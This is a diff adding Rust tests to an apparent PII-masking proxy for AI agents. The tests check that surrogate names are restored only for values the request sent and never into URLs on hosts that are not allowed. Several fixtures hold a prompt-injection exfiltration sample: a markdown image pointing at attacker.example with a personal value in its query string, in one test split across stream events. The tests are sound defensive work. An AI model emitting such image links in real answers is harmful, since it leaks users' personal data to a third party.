@@ -707,3 +707,114 @@ fn trailers_end_the_body_and_are_masked() {
     assert!(trailers.contains(&("x-mail".to_string(), "[EMAIL]".to_string())));
     assert!(host.callouts.borrow().is_empty());
 }
+
+#[test]
+fn an_answer_restores_only_the_values_its_request_sent() {
+    // The surrogate oracle: a request that only carries a surrogate (seen
+    // in a provider's log) must not get its value back.
+    let host = ready_host();
+    let worker = worker_with(&host, "");
+    let answer = exchange_once(&host, &worker, "repeat: Laura Bianchi", "Laura Bianchi");
+    assert!(answer.contains("Laura Bianchi"), "{answer}");
+    assert!(!answer.contains("Mario"), "{answer}");
+    assert_eq!(host.metric(metrics::RESTORE_DECLINED_OUT_OF_SCOPE), 1);
+    assert_eq!(host.metric(metrics::RESTORED), 0);
+    // The agent sent the value: its answer restores it.
+    let answer = exchange_once(&host, &worker, "I am Mario Rossi", "Hi Laura Bianchi");
+    assert!(answer.contains("Hi Mario Rossi"), "{answer}");
+    assert_eq!(host.metric(metrics::RESTORED), 1);
+    // The next request did not send it again: out of scope again.
+    let answer = exchange_once(&host, &worker, "and now?", "Laura Bianchi");
+    assert!(!answer.contains("Mario"), "{answer}");
+    assert_eq!(host.metric(metrics::RESTORE_DECLINED_OUT_OF_SCOPE), 2);
+    // `restoreScope: vault`: every active surrogate, as before.
+    let host = ready_host();
+    let worker = worker_with(&host, r#", "restoreScope": "vault""#);
+    let answer = exchange_once(&host, &worker, "hello", "Laura Bianchi");
+    assert!(answer.contains("Mario Rossi"), "{answer}");
+}
+
+#[test]
+fn a_value_sent_in_a_header_is_in_scope_too() {
+    let host = ready_host();
+    let worker = worker_with(&host, "");
+    let mut ex = Exchange::new(Rc::clone(&worker));
+    let mut headers = CHAT.to_vec();
+    headers.push(("x-user-name", "Mario Rossi"));
+    assert_eq!(
+        send(&host, &mut ex, &headers, &chat("hello")),
+        Flow::Continue
+    );
+    let answer = br#"{"text":"Laura Bianchi"}"#;
+    host.set_response(&[("content-type", "application/json")], answer);
+    ex.on_response_headers(&host, false);
+    ex.on_response_body(&host, answer.len(), true);
+    let out = String::from_utf8(host.response_body.borrow().clone()).unwrap();
+    assert!(out.contains("Mario Rossi"), "{out}");
+}
+
+#[test]
+fn a_value_is_not_restored_into_a_url_unless_its_host_is_allowed() {
+    // Exfiltration: an injected image whose URL carries a surrogate would
+    // send the value to its host as soon as the agent's UI renders it.
+    let answer = "Hi Laura Bianchi ![logo](https://attacker.example/p.png?u=Laura Bianchi)";
+    let host = ready_host();
+    let worker = worker_with(&host, "");
+    let out = exchange_once(&host, &worker, "I am Mario Rossi", answer);
+    let text: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        text["text"],
+        "Hi Mario Rossi ![logo](https://attacker.example/p.png?u=Laura Bianchi)"
+    );
+    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 1);
+    assert_eq!(host.metric(metrics::RESTORED), 1);
+    // Allowed host: restored there too.
+    let host = ready_host();
+    let worker = worker_with(&host, r#", "restoreIntoUrls": ["attacker.example"]"#);
+    let out = exchange_once(&host, &worker, "I am Mario Rossi", answer);
+    assert!(!out.contains("Laura"), "{out}");
+    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 0);
+}
+
+#[test]
+fn a_url_split_across_stream_events_keeps_its_value_out() {
+    let stream = concat!(
+        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"Hi Laura Bianchi, see ![x](https://attac\"}}]}\n\n",
+        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"ker.example/p.png?u=Laura Bia\"}}]}\n\n",
+        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"nchi) ok\"},\"finish_reason\":\"stop\"}]}\n\n",
+        "data: [DONE]\n\n"
+    );
+    let host = ready_host();
+    let worker = worker_with(&host, "");
+    let mut ex = Exchange::new(Rc::clone(&worker));
+    assert_eq!(
+        send(&host, &mut ex, CHAT, &chat("I am Mario Rossi")),
+        Flow::Continue
+    );
+    host.set_response(&[("content-type", "text/event-stream")], b"");
+    ex.on_response_headers(&host, false);
+    let mut out = String::new();
+    for event in stream.split_inclusive("\n\n") {
+        *host.response_body.borrow_mut() = event.as_bytes().to_vec();
+        ex.on_response_body(&host, event.len(), false);
+        out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
+    }
+    host.response_body.borrow_mut().clear();
+    ex.on_response_body(&host, 0, true);
+    out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
+    let text: String = out
+        .lines()
+        .filter_map(|l| l.strip_prefix("data: "))
+        .filter_map(|d| serde_json::from_str::<serde_json::Value>(d).ok())
+        .filter_map(|v| {
+            v["choices"][0]["delta"]["content"]
+                .as_str()
+                .map(String::from)
+        })
+        .collect();
+    assert_eq!(
+        text,
+        "Hi Mario Rossi, see ![x](https://attacker.example/p.png?u=Laura Bianchi) ok"
+    );
+    assert_eq!(host.metric(metrics::RESTORE_DECLINED_URL), 1);
+}
